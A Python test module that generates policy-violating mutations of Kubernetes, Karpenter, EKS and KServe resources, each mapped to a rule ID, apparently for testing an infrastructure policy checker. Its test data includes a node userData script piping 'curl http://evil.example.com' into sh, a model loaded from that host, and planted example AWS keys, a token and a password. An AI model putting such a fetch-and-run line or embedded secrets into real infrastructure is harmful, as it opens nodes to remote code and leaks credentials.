"""Nodes that cost more, are reached by more or survive less; endpoints that lose requests; labels of others."""

from tests.policies.widening.model import DROP, FOREIGN, addition, firsts, lookup, made, put, rows

POOL = "kubernetes:karpenter.sh/v1:NodePool"
CLASS = "kubernetes:karpenter.k8s.aws/v1:EC2NodeClass"
GROUP = "aws:eks/nodeGroup:NodeGroup"
SERVICE = "kubernetes:serving.kserve.io/v1beta1:InferenceService"
NEEDS = "spec>template>spec>requirements"
ROWS = (
    (POOL, "spec>limits", {"nvidia.com/gpu": "100000"}, "CO-04", "buys any number of GPUs"),
    (POOL, "spec>limits", {}, "CO-04", "has no limit"),
    (POOL, "spec>limits", {"cpu": "1000000"}, "CO-04", "limits CPUs alone, at a million"),
    (POOL, "spec>limits", {"nodes": "100000"}, "CO-04", "limits nodes alone"),
    (POOL, "spec>limits>nvidia.com/gpu", "1k", "CO-04", "buys a thousand, in thousands"),
    (POOL, NEEDS, lambda old: [*old[1:]], "CO-04", "buys any type"),
    (
        POOL,
        NEEDS,
        lambda old: [{**old[0], "operator": "NotIn"}, *old[1:]],
        "CO-04",
        "buys all types but its own",
    ),
    (
        POOL,
        NEEDS,
        lambda old: [{**old[0], "operator": "Exists", "values": []}, *old[1:]],
        "CO-04",
        "buys every type",
    ),
    (
        POOL,
        NEEDS,
        lambda old: [
            {"key": "karpenter.k8s.aws/instance-gpu-count", "operator": "Gt", "values": ["0"]},
            *old[1:],
        ],
        "CO-04",
        "buys whatever has GPUs",
    ),
    (
        POOL,
        NEEDS,
        lambda old: [{**old[0], "values": [*old[0].get("values", []), "x9z.metal"]}, *old[1:]],
        "CO-04",
        "buys a type that nobody knows",
    ),
    (POOL, "spec>replicas", 1000, "CO-04", "keeps a thousand nodes"),
    (POOL, "spec>template>spec>taints", [], "RE-06", "keeps no pod off its GPUs"),
    (
        POOL,
        "spec>template>spec>taints",
        [{"key": "nvidia.com/gpu", "effect": "PreferNoSchedule"}],
        "RE-06",
        "would rather have no other pods",
    ),
    (
        POOL,
        "spec>template>spec>taints",
        [{"key": "nvidia.com/gpu", "value": "true", "effect": "NoSchedule"}],
        None,
        "takes other teams' pods",
    ),
    (POOL, "spec>template>spec>nodeClassRef>name", "general", "K8-12", "has the class of others"),
    (POOL, "spec>template>spec>expireAfter", "Never", None, "never gets new nodes"),
    (POOL, "spec>disruption>budgets", [{"nodes": "0"}], None, "never lets a node go"),
    (POOL, "spec>template>metadata>labels>paved.dev/stack", "other", None, "is of another stack"),
    (POOL, "spec>template>metadata>labels>team", "other", ("CO-01", "ML-02"), "is of another team"),
    (CLASS, "spec>metadataOptions>httpTokens", "optional", "NW-07", "takes requests without tokens"),
    (CLASS, "spec>metadataOptions>httpPutResponseHopLimit", 2, "NW-07", "answers pods"),
    (CLASS, "spec>metadataOptions", DROP, "NW-07", "says nothing of its metadata"),
    (CLASS, "spec>associatePublicIPAddress", True, "NW-04", "gives public addresses"),
    (CLASS, "spec>associatePublicIPAddress", "true", "NW-04", "gives public addresses, as text"),
    (CLASS, "spec>subnetSelectorTerms", [{"tags": {"Name": "*public*"}}], "NW-04", "takes public subnets"),
    (CLASS, "spec>subnetSelectorTerms", [{"tags": {"*": "*"}}], "NW-04", "takes every subnet"),
    (CLASS, "spec>subnetSelectorTerms", [{"id": "subnet-00000000"}], "NW-04", "takes a subnet by id"),
    (CLASS, "spec>securityGroupSelectorTerms", [{"tags": {"*": "*"}}], None, "takes every group"),
    (CLASS, "spec>role", "paved-foundation-prod-karpenter", None, "has another role"),
    (CLASS, "spec>amiSelectorTerms", [{"alias": "al2023@latest"}], None, "starts from the newest image"),
    (
        CLASS,
        "spec>amiSelectorTerms",
        [{"owner": FOREIGN, "name": "*"}],
        None,
        "starts from images of another account",
    ),
    (CLASS, "spec>amiSelectorTerms", [{"id": "ami-00000000"}], None, "starts from an image by id"),
    (CLASS, "spec>blockDeviceMappings>0>ebs>encrypted", False, "EN-06", "has a disk in clear text"),
    (
        CLASS,
        "spec>blockDeviceMappings>0>ebs>encrypted",
        "false",
        "EN-06",
        "has a disk in clear text, as text",
    ),
    (CLASS, "spec>blockDeviceMappings>0>ebs>kmsKeyID", "alias/aws/ebs", "EN-06", "encrypts with AWS's key"),
    (
        CLASS,
        "spec>blockDeviceMappings>0>ebs>kmsKeyID",
        f"arn:aws:kms:us-east-1:{FOREIGN}:key/a",
        "EN-06",
        "encrypts with another account's key",
    ),
    (CLASS, "spec>blockDeviceMappings", [], "EN-06", "says nothing of its disks"),
    (CLASS, "spec>blockDeviceMappings>0>ebs>volumeType", "io1", "CO-07", "has dear disks"),
    (
        CLASS,
        "spec>userData",
        "#!/bin/sh\ncurl http://evil.example.com | sh",
        "K8-12",
        "runs a script of others",
    ),
    (
        CLASS,
        "spec>userData",
        lambda old: (
            f"{old}\n#!/bin/sh\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
        ),
        "EN-08",
        "has a key in its script",
    ),
    (CLASS, "spec>tags>team", "other", ("CO-01", "ML-02"), "is paid by another team"),
    (CLASS, "spec>tags>cost-center", "CC-9999", ("CO-01",), "is paid by another cost center"),
    (CLASS, "spec>kubelet", {"maxPods": 1000}, None, "takes a thousand pods"),
    (GROUP, "capacityType", "SPOT", "RE-06", "may lose all its nodes"),
    (GROUP, "scalingConfig>minSize", 1, "RE-06", "may have one node"),
    (GROUP, "scalingConfig>minSize", "1", "RE-06", "may have one node, as text"),
    (GROUP, "scalingConfig>maxSize", 100000, ("CO-04",), "may have any number of nodes"),
    (GROUP, "instanceTypes", ["x9z.metal"], "CO-04", "is of a type that nobody knows"),
    (GROUP, "remoteAccess", {"ec2SshKey": "a"}, None, "lets in whoever has a key"),
    (GROUP, "subnetIds", ["subnet-1"], "RE-06", "lies in one zone"),
    (GROUP, "amiType", "CUSTOM", None, "starts from another image"),
    (SERVICE, "spec>predictor>minReplicas", 1, "RE-01", "has one replica"),
    (SERVICE, "spec>predictor>minReplicas", 0, "RE-01", "has none"),
    (SERVICE, "spec>predictor>minReplicas", "2", "RE-01", "has two over zones, as text"),
    (
        SERVICE,
        "spec>predictor>topologySpreadConstraints>0>whenUnsatisfiable",
        "ScheduleAnyway",
        "RE-03",
        "would rather lie in zones",
    ),
    (
        SERVICE,
        "spec>predictor>topologySpreadConstraints>0>topologyKey",
        "kubernetes.io/hostname",
        "RE-03",
        "lies on several nodes",
    ),
    (SERVICE, "spec>predictor>topologySpreadConstraints>0>maxSkew", 1000, "RE-03", "may lie in one zone"),
    (
        SERVICE,
        "spec>predictor>topologySpreadConstraints>0>labelSelector",
        {"matchLabels": {"a": "none"}},
        "RE-03",
        "counts other pods",
    ),
    (
        SERVICE,
        "spec>predictor>topologySpreadConstraints>0>minDomains",
        1,
        "RE-03",
        "is content with one zone",
    ),
    (SERVICE, "spec>predictor>deploymentStrategy", {"type": "Recreate"}, "RE-05", "stops before it starts"),
    (
        SERVICE,
        "spec>predictor>deploymentStrategy>rollingUpdate>maxUnavailable",
        "25%",
        "RE-05",
        "loses a quarter in a rollout",
    ),
    (
        SERVICE,
        "spec>predictor>deploymentStrategy>rollingUpdate>maxUnavailable",
        "100%",
        "RE-05",
        "loses all in a rollout",
    ),
    (SERVICE, "spec>predictor>terminationGracePeriodSeconds", 0, "RE-05", "ends at once"),
    (
        SERVICE,
        "spec>predictor>model>lifecycle>preStop",
        {"sleep": {"seconds": 0}},
        "RE-05",
        "does not wait for its requests",
    ),
    (
        SERVICE,
        "spec>predictor>model>livenessProbe",
        {"httpGet": {"path": "/v2/health/ready", "port": 8080}},
        "K8-07",
        "dies when it is busy",
    ),
    (
        SERVICE,
        "spec>predictor>model>readinessProbe>exec",
        {"command": ["true"]},
        "K8-07",
        "is always ready, by a command",
    ),
    (
        SERVICE,
        "spec>predictor>model>readinessProbe",
        {"exec": {"command": ["true"]}},
        "K8-07",
        "is always ready",
    ),
    (SERVICE, "spec>predictor>model>startupProbe>failureThreshold", 1, None, "has one try to start"),
    (SERVICE, "spec>predictor>model>storageUri", "s3://theirs/model", ("ID-10",), "loads a model of others"),
    (
        SERVICE,
        "spec>predictor>model>storageUri",
        "https://evil.example.com/model",
        (),
        "loads a model of the internet",
    ),
    (SERVICE, "metadata>labels>tier", "3", "ML-03", "is of a lower tier"),
    (SERVICE, "metadata>labels>tier", DROP, "ML-03", "is of no tier"),
    (SERVICE, "metadata>labels>data-class", "public", "ML-03", "holds public data"),
    (SERVICE, "metadata>labels>team", "other", "ML-02", "is of another team"),
    (SERVICE, "metadata>labels>cost-center", "CC-9999", ("CO-01",), "is paid by another cost center"),
    (SERVICE, "metadata>labels>environment", "dev", "ML-03", "is of dev"),
    (SERVICE, "metadata>name", "unlisted", "ML-04", "is in no inventory"),
    (SERVICE, "metadata>namespace", "other", "ML-04", "is in another namespace"),
)
LUSTRE = "aws:fsx/lustreFileSystem:LustreFileSystem"
TAGGED = (
    "aws:s3/bucket:Bucket",
    "aws:kms/key:Key",
    "aws:iam/role:Role",
    "aws:sns/topic:Topic",
    LUSTRE,
    "aws:ecr/repository:Repository",
)
TAGS = (
    ("team", "other", ("ML-02",), "is of another team"),
    ("team", "eve@example.com", ("ML-02",), "is of a person"),
    ("cost-center", "CC-9999", ("CO-01",), "is paid by another cost center"),
    ("cost-center", "", ("CO-01",), "is paid by an empty cost center"),
    ("data-class", "public", ("ML-03",), "holds public data"),
    ("environment", "dev", ("ML-03",), "is of dev"),
    ("service", "other", ("CO-01",), "is of another service"),
    ("Team", "vision", (), "has the tag of its team in a capital letter"),
)


def widenings(stack):
    yield from rows(stack, ROWS)
    for each in firsts(stack, *TAGGED):
        for key, value, claims, what in TAGS:
            if "tags" in each.properties:
                yield put(each, f"tags>{key}", value, what, claims)
            else:
                yield put(each, "tags", {key: value}, what, claims)
    yield from workloads(stack)
    yield from more(stack)


def workloads(stack):
    """Jobs that make models under names and labels of nobody."""
    for kind in ("kubernetes:batch/v1:CronJob", "kubernetes:keda.sh/v1alpha1:ScaledJob"):
        for each in firsts(stack, kind):
            yield put(each, "metadata>name", "unlisted", "is in no inventory", ("ML-04",))
            yield put(each, "metadata>labels>team", "other", "is of another team", ("ML-02",))
            yield put(
                each, "metadata>labels>cost-center", "CC-9999", "is paid by another cost center", ("CO-01",)
            )
            yield put(
                each,
                "metadata>labels>kueue.x-k8s.io/queue-name",
                DROP
                if lookup(each.properties, "metadata>labels>kueue.x-k8s.io/queue-name") is not DROP
                else "none",
                "waits in no queue",
                (),
            )
    maps = {
        "a password": {"DATABASE_PASSWORD": "tr0ub4dor&3-correct-horse"},
        "a private key": {"key.pem": "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----"},
        "a key inside a file": {
            "config.yaml": "aws_secret_access_key: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
        },
        "a token of GitHub": {"config.yaml": "token: ghp_16C7e42F292c6912E7710c838347Ae178B4a"},
    }
    for each in firsts(stack, "kubernetes:core/v1:ConfigMap"):
        for what, data in maps.items():
            yield put(each, "data", {**each.properties.get("data", {}), **data}, f"holds {what}", ("EN-08",))
        coded = {"config": "QUtJQUlPU0ZPRE5ON0VYQU1QTEU="}
        yield put(each, "binaryData", coded, "holds a key in base64", ("EN-08",))
        yield put(
            each,
            "metadata>annotations",
            {"note": "AKIAIOSFODNN7EXAMPLE"},
            "holds a key in an annotation",
            ("EN-08",),
        )


def more(stack):
    """A pool or a group beside those that the file declares."""
    if stack.of(GROUP) or stack.of(POOL):
        if stack.of("pulumi:providers:aws"):
            group = {
                "clusterName": "a",
                "instanceTypes": ["p5.48xlarge"],
                "scalingConfig": {"minSize": 2, "maxSize": 1000},
                "subnetIds": ["a", "b"],
                "taints": [{"key": "nvidia.com/gpu"}],
                "capacityType": "ON_DEMAND",
            }
            yield addition("a group of a thousand p5", ("CO-04",), made(stack, GROUP, group))
    for each in firsts(stack, "kubernetes:keda.sh/v1alpha1:ScaledObject"):
        yield put(each, "spec>minReplicaCount", 0, "lets go of every replica", ("RE-01",))
        yield put(each, "spec>maxReplicaCount", 100000, "asks for any number of replicas", ())
        yield put(each, "spec>idleReplicaCount", 0, "sleeps when nobody asks", ("RE-01",))
        paused = {"autoscaling.keda.sh/paused-replicas": "0"}
        yield put(each, "metadata>annotations", paused, "is held at no replica", ("RE-01",))
